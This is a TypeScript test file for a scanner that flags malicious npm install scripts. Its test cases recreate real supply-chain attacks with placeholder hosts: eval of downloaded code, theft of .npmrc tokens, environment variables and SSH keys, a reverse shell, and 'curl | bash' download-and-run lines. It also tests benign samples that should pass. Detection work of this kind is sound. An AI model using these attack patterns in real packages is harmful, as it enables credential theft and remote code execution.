import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { readCode, suspiciousIn, togetherWith } from '../../../../server/src/core/know/scripts/read-code.ts';
import { cpuTime } from '../../../cpu-time.ts';

type Language = 'module' | 'shell';

/** Returns what is suspicious in the first of the files that one script starts, with its line. */
function read(text: string, language: Language = 'module', ...others: readonly string[]) {
  const code = readCode({ text, language });
  const all = [code, ...others.map((other) => readCode({ text: other, language }))];
  const found = suspiciousIn(code, togetherWith(all));
  if (found === undefined) return undefined;
  return `${found.suspicion}: ${found.outline} (${text.slice(0, found.offset).split('\n').length})`;
}

const base64 = (text: string) => Buffer.from(text).toString('base64');

/** As in published attacks, without their hosts and payloads. */
const ATTACKS: Readonly<Record<string, readonly [text: string, expected: string]>> = {
  'eslint-scope 3.7.2, which runs what it downloads': [
    `try {
  var https = require('https');
  https.get({ hostname: 'paste.example.test', path: '/raw/1' }, (r) => {
    r.setEncoding('utf8');
    r.on('data', (c) => {
      eval(c);
    });
  }).on('error', () => {});
} catch (e) {}`,
    'remote-code: eval(…) of a response (5)',
  ],
  'its payload, which sends the token of .npmrc': [
    `var fs = require('fs'), https = require('https'), path = require('path');
var npmrc = path.join(process.env.HOME || process.env.USERPROFILE, '.npmrc');
var content = fs.readFileSync(npmrc, { encoding: 'utf8' }).replace('//registry.example.test/:_authToken=', '').trim();
https.get({ hostname: 'stats.example.test', headers: { Referer: 'http://1.a/' + content } }, () => {});`,
    'sends-data: the tokens of .npmrc (2)',
  ],
  'flatmap-stream 0.1.1, which decrypts a module': [
    `var crypto = require('crypto');
var decipher = crypto.createDecipher('aes256', process.env.npm_package_description);
var code = decipher.update(data, 'hex', 'utf8') + decipher.final('utf8');
var module2 = new module.constructor();
module2._compile(code, '');`,
    'encoded-code: _compile(…) of a decrypted text (5)',
  ],
  'node-ipc 10.1.1, which hides a URL': [
    `import https from 'https';
const url = Buffer.from('${base64('https://geo.example.test/ipgeo?apiKey=1')}', 'base64');
https.get(url.toString('utf8'), (message) => message.on('data', (buffer) => console.log(buffer)));`,
    'obfuscated: a URL in base64 (2)',
  ],
  'Shai-Hulud 2.0, setup_bun.js': [
    `#!/usr/bin/env node
const { spawn, execSync } = require('child_process');
const path = require('path');
async function downloadAndSetupBun() {
  let command;
  if (process.platform === 'win32') {
    command = 'powershell -c "irm bun.example.test/install.ps1|iex"';
  } else {
    command = 'curl -fsSL https://bun.example.test/install | bash';
  }
  execSync(command, { stdio: 'ignore', env: { ...process.env } });
}`,
    'remote-code: Invoke-WebRequest … | Invoke-Expression (7)',
  ],
  'Shai-Hulud 1, bundle.js': [
    `const https = require("https");
async function scan() { return download("https://releases.example.test/trufflesecurity/trufflehog/latest"); }`,
    'sends-data: trufflehog (2)',
  ],
  'eslint-config-prettier 10.1.7, with split names': [
    `const os = require('os'), path = require('path');
if (os.platform() === 'win32') {
  require('chi' + 'ld_pro' + 'cess')["sp" + "awn"]("rund" + "ll32", [path.join(__dirname, './node-gyp' + '.dll') + ',main']);
}`,
    'system-tool: rundll32 … (3)',
  ],
  'dependency confusion, which names the machine': [
    `const os = require('os');
const https = require('https');
const data = JSON.stringify({ hd: os.homedir(), hn: os.hostname(), un: os.userInfo().username });
const req = https.request({ hostname: 'c.example.test', method: 'POST' });
req.write(data);`,
    'sends-data: the names of user and machine (3)',
  ],
  'all variables in a request': [
    `require('http').request({ host: 'c.example.test', method: 'POST' }).end(JSON.stringify(process.env));`,
    'sends-data: all environment variables (1)',
  ],
  'a webhook': [
    `const https = require('https');
https.get('https://webhook.site/3f2a?x=1');`,
    'collector: webhook.site (2)',
  ],
  'a shell to another machine': [
    `const net = require('net'), cp = require('child_process'), sh = cp.spawn('/bin/sh', []);
const client = new net.Socket();
client.connect(4444, 'c.example.test', () => { client.pipe(sh.stdin); sh.stdout.pipe(client); });`,
    'remote-shell: a connection piped to a shell (3)',
  ],
  'decoded and run': [
    `const code = atob('${base64('console.log(1) // nothing to see')}');
eval(code);`,
    'encoded-code: eval(…) of a decoded text (1)',
  ],
  'an obfuscated file': [
    Array.from({ length: 40 }, (_, at) => `var _0x${(0x4f00 + at).toString(16)} = ${at};`).join('\n'),
    'obfuscated: names such as _0x1a2b (30)',
  ],
  'a program from an IP address': [
    `const { exec } = require('child_process');
const http = require('http');
http.get('http://203.0.113.7/a.bin', (r) => r.pipe(file).on('close', () => exec('./a.bin')));`,
    'remote-code: a download from an IP address (3)',
  ],
};

/** As in packages that millions install. */
const HONEST: Readonly<Record<string, string>> = {
  'a download of a binary, with a hint and variables': `const https = require('https'), zlib = require('zlib'), child_process = require('child_process');
const env = { ...process.env, npm_config_global: undefined };
// Or: curl -fsSL https://tool.example.test/install.sh | bash
child_process.execSync('npm install --loglevel=error --prefer-offline --no-audit', { cwd: dir, stdio: 'pipe', env });
https.get(\`https://registry.example.test/\${name}/-/\${name}.tgz\`, (res) => fs.createWriteStream(path));
fs.chmodSync(path, 0o755);
const integrity = Buffer.from(hash, 'base64').toString('hex');
console.error('Install it with: curl -fsSL https://tool.example.test/install.sh | bash');`,
  'a hint for the user, kept in a variable': `const { spawnSync } = require('child_process');
const install = process.platform === 'win32' ? 'powershell -c "irm tool.example.test/i.ps1 | iex"' : 'curl -fsSL https://tool.example.test/i | bash';
spawnSync('git', ['--version']);
throw new Error(\`Reinstall it: \${install}\`);`,
  'a bundle': `var https = require('https'); var g = Function('return this')(); var r = eval('require'); /\\b(eval|atob)\\(/.test(x);
https.request({ method: 'POST' });`,
  'the proxy of .npmrc': `const https = require('https'), fs = require('fs');
const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); const proxy = /^proxy=(.*)$/m.exec(rc);`,
  'a banner': `if (!process.env.ADBLOCK) console.log('Support the author: https://collective.example.test');`,
  'a token for the host of releases': `const https = require('https');
https.get(url, { headers: process.env.GITHUB_TOKEN ? { Authorization: \`token \${process.env.GITHUB_TOKEN}\` } : {} });`,
};

describe('files that install scripts start', () => {
  for (const [name, [text, expected]] of Object.entries(ATTACKS))
    test(name, () => assert.equal(read(text), expected));

  for (const [name, text] of Object.entries(HONEST))
    test(`silent: ${name}`, () => assert.equal(read(text), undefined));

  test('ua-parser-js 0.7.29, a shell script that downloads a program and runs it', () => {
    const text = `# curl https://x.example.test | bash
IP=$(curl -k https://geo.example.test/xml/ | grep RU)
if [ -z "$IP" ]; then
  curl http://203.0.113.7/download/jsextension -o jsextension
  chmod +x jsextension
  ./jsextension -k --tls --background &>/dev/null &
fi
`;
    assert.equal(read(text, 'shell'), 'remote-code: curl … && ./… (2)');
    assert.equal(
      read('#!/bin/sh\ncurl -L -o t.tgz https://x.example.test/t.tgz\ntar xf t.tgz\nmake\n', 'shell'),
      undefined,
    );
  });

  test('what two files of one script do together', () => {
    const reads = `module.exports = require('fs').readFileSync(home + '/.ssh/id_rsa');`;
    const sends = `require('https').request({}).end(require('./collect'));`;
    assert.equal(read(reads), undefined);
    assert.equal(read(reads, 'module', sends), 'sends-data: a file with credentials (1)');
  });

  test('the time grows with the length, whatever a file repeats', () => {
    const start = `require('child_process'), require('https'); let c = 'curl https://x.example.test | sh';`;
    const parts = ['`${', '"\\', '/[', 'eval(', '_0x1a2b ', 'a=atob("', "'aHR0cHM6Ly9h',", '(((', '\n/*'];
    const more = [
      '.on("data",',
      'exec',
      "'curl a',",
      'vm.runIn',
      'stringify({',
      '.then((',
      'eval(await ',
      'a.b(',
    ];
    for (const part of [...parts, ...more]) {
      const started = cpuTime();
      read(start + part.repeat(1_000_000 / part.length));
      const time = cpuTime() - started;
      assert.ok(time < 30_000, `${part}: ${time} ms`);
    }
  });
});
